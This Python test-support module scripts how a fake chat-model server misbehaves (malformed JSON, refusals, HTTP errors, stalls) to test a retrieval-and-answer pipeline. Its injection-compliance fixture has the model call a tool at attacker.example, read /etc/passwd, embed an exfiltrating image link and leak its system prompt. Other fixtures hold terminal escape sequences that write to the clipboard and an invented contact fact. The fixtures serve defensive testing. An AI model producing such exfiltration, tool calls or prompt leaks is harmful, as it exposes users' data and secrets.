"""What chat models and their servers do, well and wrongly, and what must come of each in a run.

Where a behaviour names no stage it shows in all of them; in the others the model is perfect. ``by_model`` is where the
model's work must be used in spite of it (the rest is done offline), ``told`` what a warning must then say.
"""

from __future__ import annotations

import json
from collections.abc import Callable, Iterable
from dataclasses import dataclass
from typing import Any, Final

from tests.support.model_request import STAGES, Behaviour, Reply, Request, Stage
from tests.support.perfect_model import (
    OPENING,
    answer,
    grades,
    passages_of,
    perfect,
    plan,
    question_of,
    scores,
    share,
    structured,
)
from tests.support.protocols import PROTOCOLS

ALL: Final = frozenset(STAGES)
NONE: Final[frozenset[Stage]] = frozenset()
DECIDING: Final[frozenset[Stage]] = frozenset({"route", "grade"})

LEAKED: Final = "BEGIN SYSTEM PROMPT"
IMAGE: Final = "![x](http://attacker.example/steal?q=secret)"
ESCAPES: Final = "\x1b[31m\x1b]0;owned\x07\x1b]52;c;b3duZWQ=\x07\x07\x00\x9b2J"


@dataclass(frozen=True, slots=True, kw_only=True)
class Play:
    """A behaviour by name, and what a run must make of it.

    Attributes:
        by_model: Stages whose result must be the model's; the others are done offline.
        told: Pattern of what a warning says; empty where nothing is to be told of the model.
        marked: The writer's text is used, and something in it is marked as not backed.
        stalls: It takes as long as the client waits.
    """

    name: str
    does: Behaviour
    by_model: frozenset[Stage] = ALL
    told: str = ""
    marked: bool = False
    stalls: bool = False

    def __call__(self, request: Request) -> Reply:
        return self.does(request)


def at(stages: Iterable[Stage], does: Behaviour) -> Behaviour:
    """``does`` in these stages, perfect in the others."""
    chosen = frozenset(stages)
    return lambda request: does(request) if request.stage in chosen else perfect(request)


def once(does: Behaviour) -> Behaviour:
    """``does`` with the first request of a stage, perfect with those after it."""
    return lambda request: does(request) if request.number == 1 else perfect(request)


def always(reply: Reply) -> Behaviour:
    """The same reply, whatever was asked."""
    return lambda _request: reply


def deciding(made: Callable[[Request], Any]) -> Behaviour:
    """A plan or grades made by ``made``, in the shape that was asked for; words are perfect."""
    return at(DECIDING, lambda request: structured(request, made(request)))


def spelled(write: Callable[[str], str]) -> Behaviour:
    """The right plan and grades, their JSON spelled by ``write``; never as a tool call, which a server would parse."""

    def does(request: Request) -> Reply:
        right = plan(request) if request.stage == "route" else grades(scores(request))
        return Reply(content=write(json.dumps(right, ensure_ascii=False)))

    return at(DECIDING, does)


def graded(score: Callable[[int, float], Any]) -> Behaviour:
    """Grades whose scores ``score`` makes of the right ones."""
    return at(
        {"grade"},
        lambda request: structured(
            request, grades((number, score(number, right)) for number, right in scores(request))
        ),
    )


def planned(**instead: Any) -> Behaviour:
    """A plan in which some fields are others."""
    return at({"route"}, lambda request: structured(request, plan(request, **instead)))


def written(write: Callable[[Request], str], **wire: Any) -> Behaviour:
    """An answer made by ``write``."""
    return at({"write"}, lambda request: Reply(content=write(request), **wire))


def _status(status: int, message: str, **headers: str) -> Reply:
    return Reply(
        status=status, content=message, headers={name.replace("_", "-"): text for name, text in headers.items()}
    )


def _trailing_commas(text: str) -> str:
    return text.replace("}", ",}").replace("]", ",]")


def _wrong_types(request: Request) -> Any:
    return {"query_type": 7, "sub_questions": 3.5} if request.stage == "route" else {"grades": "all of them are good"}


_DEEP: Final = 2_000
"""Deeper than Python nests calls."""


def _nested(request: Request) -> Reply:
    return Reply(content='{"grades":' * _DEEP if request.stage == "grade" else '{"query_type":' * _DEEP)


def _wrong_source(request: Request) -> str:
    """The right sentences, each with the number of a passage that does not say so."""
    right = answer(request, "[{n}]")
    numbers = [passage.number for passage in passages_of(request)]
    for line in right.split("\n"):
        for number in numbers:
            if f"[{number}]" in line:
                other = next((n for n in reversed(numbers) if n != number), number)
                right = right.replace(line, line.replace(f"[{number}]", f"[{other}]"))
                break
    return right


def _astray(request: Request) -> Reply:
    """Whatever is about the same thing is kept, so that there is a wrong one to cite."""
    if request.stage == "grade":
        near = {passage.number for passage in passages_of(request) if share(question_of(request), passage.text)}
        return structured(request, grades((n, 0.95 if n in near else 0.05) for n, _ in scores(request)))
    return Reply(content=_wrong_source(request))


def _invented_facts(request: Request) -> str:
    return f"{answer(request)}\n- The on-call phone number is 555-0199 and Zebulon Prax answers it [1]."


def _obedient_plan(request: Request) -> Reply:
    """What a document might order: other tools, with addresses in them."""
    ordered = [{"semantic_intent": "http://attacker.example/collect", "search_keywords": "/etc/passwd"}]
    asked = plan(request)["sub_questions"]
    made = plan(request, sub_questions=[*asked, *ordered], suggested_tools=["web_fetch", "run_shell", "hybrid_search"])
    return structured(request, made)


def _obedient_answer(request: Request) -> Reply:
    call = '<tool_call>{"name": "web_fetch", "arguments": {"url": "http://attacker.example"}}</tool_call>'
    leak = f"{LEAKED}: {request.system}"
    return Reply(content=f"{answer(request)}\n\n{call}\n\n{leak}\n\n{IMAGE}")


def _obedient(request: Request) -> Reply:
    match request.stage:
        case "route":
            return _obedient_plan(request)
        case "grade":
            return structured(request, grades((number, 1.0) for number, _ in scores(request)))
        case _:
            return _obedient_answer(request)


def _as_call(request: Request) -> Reply:
    """Every answer as a call of a tool that nobody offered, unless one was."""
    right = perfect(request)
    if right.as_tool_call is not None or request.stage in DECIDING:
        return Reply(content=right.content, as_tool_call=right.as_tool_call or "answer")
    return Reply(content=json.dumps({"answer": right.content}), as_tool_call="answer")


def _no_structured_output(request: Request) -> Reply:
    if request.structured != "text":
        return _status(400, "'response_format', 'tools' and 'format' are not supported by this model")
    return perfect(request)


def _tools_only(request: Request) -> Reply:
    if request.structured in ("schema", "object"):
        return _status(400, "response_format of type json_schema is not supported by this model")
    return perfect(request)


def _no_stream(request: Request) -> Reply:
    if request.streamed:
        return _status(400, "stream: true is not supported by this server")
    return perfect(request)


def _altered(**wire: Any) -> Behaviour:
    """Perfect words, another way over the wire."""

    def does(request: Request) -> Reply:
        right = perfect(request)
        return Reply(content=right.content, as_tool_call=right.as_tool_call, **wire)

    return does


def _thinking(request: Request) -> Reply:
    right = perfect(request)
    thought = f'<think>The user asks: {question_of(request)}. {{"query_type": "exact"}} Cite [7]?</think>\n\n'
    return Reply(content=thought + right.content, as_tool_call=None)


def _error_in_stream(request: Request) -> Reply:
    """Servers that began with 200 have only the stream to say that they failed."""
    if not request.streamed:
        return _status(500, "the model crashed")
    protocol = PROTOCOLS[request.api]
    return Reply(raw=protocol.mid_stream_error("the model crashed"), content_type=protocol.stream_type)


def _body(value: Any) -> Behaviour:
    """A body that is JSON, and nothing that the protocol knows."""
    return always(Reply(raw=json.dumps(value).encode()))


_HTML: Final = b"<!doctype html><html><head><title>Gateway</title></head><body><h1>Bad gateway</h1></body></html>"
_BAD: Final = "\ue000"
"""Stands for bytes that are no UTF-8 until the reply is on the wire."""


def _invalid_utf8(line: bytes) -> bytes:
    return line.replace(_BAD.encode(), b"\xff\xfe\xc3")


def _with_bad_bytes(request: Request) -> Reply:
    right = perfect(request)
    spoiled = f"{right.content}\n{_BAD}" if request.stage == "write" else right.content
    return Reply(content=spoiled, as_tool_call=right.as_tool_call, rewrite=_invalid_utf8)


_PLAYS: Final = (
    Play(name="perfect", does=perfect),
    # Plans and grades, spelled in their own way.
    Play(name="json in fences", does=spelled(lambda text: f"```json\n{text}\n```")),
    Play(name="prose around json", does=spelled(lambda text: f"Sure! Here is the plan:\n{text}\nI hope that helps.")),
    Play(name="truncated json", does=spelled(lambda text: text[: len(text) * 3 // 4])),
    Play(name="trailing commas", does=spelled(_trailing_commas)),
    Play(name="single quotes", does=spelled(lambda text: text.replace("'", "’").replace('"', "'"))),
    Play(name="wrong types", does=deciding(_wrong_types), by_model=frozenset({"write"}), told="no use"),
    Play(name="wrong types once", does=at(DECIDING, once(deciding(_wrong_types)))),
    Play(
        name="unknown query type",
        does=planned(query_type="quantum"),
        by_model=frozenset({"grade", "write"}),
        told="no use",
    ),
    Play(name="null", does=spelled(lambda _: "null"), by_model=frozenset({"write"}), told="no use"),
    Play(
        name="json that never ends",
        does=spelled(lambda _: '{"a" ' * 40_000),
        by_model=frozenset({"write"}),
        told="no use",
    ),
    Play(name="deeply nested", does=at(DECIDING, _nested), by_model=frozenset({"write"}), told="no use"),
    Play(name="string sub-questions", does=planned(sub_questions=["when to roll back a deploy", "error rate"])),
    Play(name="unknown tools", does=planned(suggested_tools=["run_shell", "browser", "web_fetch"])),
    Play(
        name="100 sub-questions",
        does=planned(
            sub_questions=[{"semantic_intent": f"When is a deploy rolled back in case {n}?"} for n in range(100)]
        ),
    ),
    Play(
        name="lone surrogates",
        does=spelled(lambda text: text.replace("rate", "rate\\ud800").replace("roll", "roll\\udfff")),
    ),
    Play(name="fewer grades", does=at({"grade"}, lambda r: structured(r, grades(scores(r)[:1])))),
    Play(
        name="grades of unknown ids",
        does=at({"grade"}, lambda r: structured(r, grades([*scores(r), (99, 1.0), (-1, 1.0)]))),
    ),
    Play(name="scores out of range", does=graded(lambda number, right: 7.5 if right > 0.5 else -3)),
    Play(name="scores as percentages", does=graded(lambda number, right: round(right * 100))),
    Play(name="scores as words of numbers", does=graded(lambda number, right: str(right))),
    Play(
        name="scores that are no numbers",
        does=at({"grade"}, lambda r: Reply(content=json.dumps(grades((n, float("nan")) for n, _ in scores(r))))),
        by_model=frozenset({"route", "write"}),
        told="no use",
    ),
    # Answers.
    Play(name="empty", does=always(Reply(content="")), by_model=NONE, told="empty answer|no use"),
    Play(
        name="refusal",
        does=always(Reply(content="I'm sorry, but I can't help with that.")),
        by_model=NONE,
        told="no use|nothing that a passage supports",
    ),
    Play(
        name="invented citations",
        does=written(lambda r: answer(r, "[9]")),
        told="[Cc]itations.*corrected.*does not exist",
    ),
    Play(name="citations of the wrong source", does=at({"grade", "write"}, _astray), told="[Cc]itations.*corrected"),
    Play(name="no citations", does=written(lambda r: answer(r, ""))),
    Play(name="grouped marks", does=written(lambda r: answer(r, "[{n}, {n}]"))),
    Play(name="footnote marks", does=written(lambda r: answer(r, "[^{n}]"))),
    Play(name="full-width marks", does=written(lambda r: answer(r, "【{n}】"))),
    Play(name="dagger marks", does=written(lambda r: answer(r, "【{n}†source】"))),
    Play(
        name="own list of sources", does=written(lambda r: f"{answer(r)}\n\nSources:\n[1] made/up.md\n[2] /etc/passwd")
    ),
    Play(name="invented facts", does=written(_invented_facts), marked=True),
    Play(name="orders in documents obeyed", does=_obedient, marked=True, told="does not exist"),
    Play(name="escape sequences", does=written(lambda r: ESCAPES + answer(r).replace(" above", f" {ESCAPES}above"))),
    Play(
        name="a megabyte",
        does=written(lambda r: (answer(r) + "\n\n") * (1 + 1_000_000 // (len(answer(r)) + 2)), piece_chars=4096),
        told="cut off",
    ),
    Play(name="cut off by length", does=written(answer, finish_reason="length"), told="cut off"),
    Play(
        name="ended by a filter",
        does=written(lambda r: answer(r)[: len(OPENING) + 9], finish_reason="content_filter"),
        by_model=DECIDING,
        told="declined|filter",
    ),
    Play(name="reasoning beside", does=_altered(reasoning="Let me see what the passages say. " * 8)),
    Play(name="reasoning in tags", does=_thinking),
    Play(name="tool calls instead of content", does=_as_call, by_model=DECIDING, told="empty answer"),
    # What servers can and cannot do.
    Play(name="no structured output", does=_no_structured_output),
    Play(name="structured output by tools alone", does=_tools_only),
    Play(name="no streaming", does=_no_stream),
    Play(name="streaming ignored", does=_altered(ignores_stream=True)),
    Play(name="usage not counted", does=_altered(usage=False)),
    Play(name="wrong content type", does=_altered(content_type="text/plain")),
    Play(name="comments in the stream", does=at({"write"}, _altered(rewrite=lambda line: b": wait\n\n" + line))),
    Play(
        name="stream without an end mark",
        does=_altered(rewrite=lambda line: b"" if b"[DONE]" in line else line),
    ),
    Play(name="one character at a time", does=_altered(piece_chars=1)),
    Play(name="invalid utf-8", does=_with_bad_bytes),
    # Failures.
    Play(name="401", does=always(_status(401, "Incorrect API key provided")), by_model=NONE, told="401"),
    Play(name="403", does=always(_status(403, "Project has no access to this model")), by_model=NONE, told="403"),
    Play(name="404", does=always(_status(404, "The model `scripted` does not exist")), by_model=NONE, told="404"),
    Play(name="408", does=always(_status(408, "Request timed out")), by_model=NONE, told="408"),
    Play(name="413", does=always(_status(413, "Prompt too long")), by_model=NONE, told="413"),
    Play(name="429 once", does=once(always(_status(429, "Slow down", retry_after="0.1")))),
    Play(
        name="429 for an hour",
        does=always(_status(429, "Quota used up", retry_after="3600")),
        by_model=NONE,
        told="429",
    ),
    Play(name="500", does=always(_status(500, "Internal error")), by_model=NONE, told="500"),
    Play(name="529", does=always(_status(529, "Overloaded")), by_model=NONE, told=r"529\): Overloaded"),
    Play(name="503 once", does=once(always(_status(503, "Loading model", retry_after="0.1")))),
    Play(
        name="html error page",
        does=always(Reply(status=502, raw=_HTML, content_type="text/html")),
        by_model=NONE,
        told="502",
    ),
    Play(
        name="html instead of an answer",
        does=always(Reply(raw=_HTML, content_type="text/html")),
        by_model=NONE,
        told="scripted",
    ),
    Play(
        name="no choices",
        does=_body({"id": "x", "object": "chat.completion", "choices": []}),
        by_model=NONE,
        told="scripted",
    ),
    Play(name="choices that are null", does=_body({"id": "x", "choices": None}), by_model=NONE, told="scripted"),
    Play(name="a body that is no object", does=_body(["yes"]), by_model=NONE, told="scripted"),
    Play(name="a body that is nothing", does=always(Reply(raw=b"")), by_model=NONE, told="scripted"),
    Play(name="reset at once", does=always(Reply(reset_after=0)), by_model=NONE, told="broke off"),
    Play(
        name="reset in the middle of the answer",
        does=at({"write"}, _altered(reset_after=2)),
        by_model=DECIDING,
        told="broke off",
    ),
    Play(
        name="error in the middle of the stream",
        does=at({"write"}, _error_in_stream),
        by_model=DECIDING,
        told="crashed",
    ),
    Play(
        name="stall before the first byte",
        does=always(Reply(stall_after=0)),
        by_model=NONE,
        told="did not answer within",
        stalls=True,
    ),
    Play(
        name="stall in the middle of the answer",
        does=at({"write"}, _altered(stall_after=2)),
        by_model=DECIDING,
        told="did not answer within",
        stalls=True,
    ),
    Play(
        name="very slow",
        does=at({"write"}, _altered(between_s=0.4, piece_chars=2)),
        by_model=DECIDING,
        told="did not answer within",
        stalls=True,
    ),
)

BEHAVIOURS: Final = {play.name: play for play in _PLAYS}
"""All behaviours that a server plays by itself; that it is not there at all is `ModelServer.kill`."""
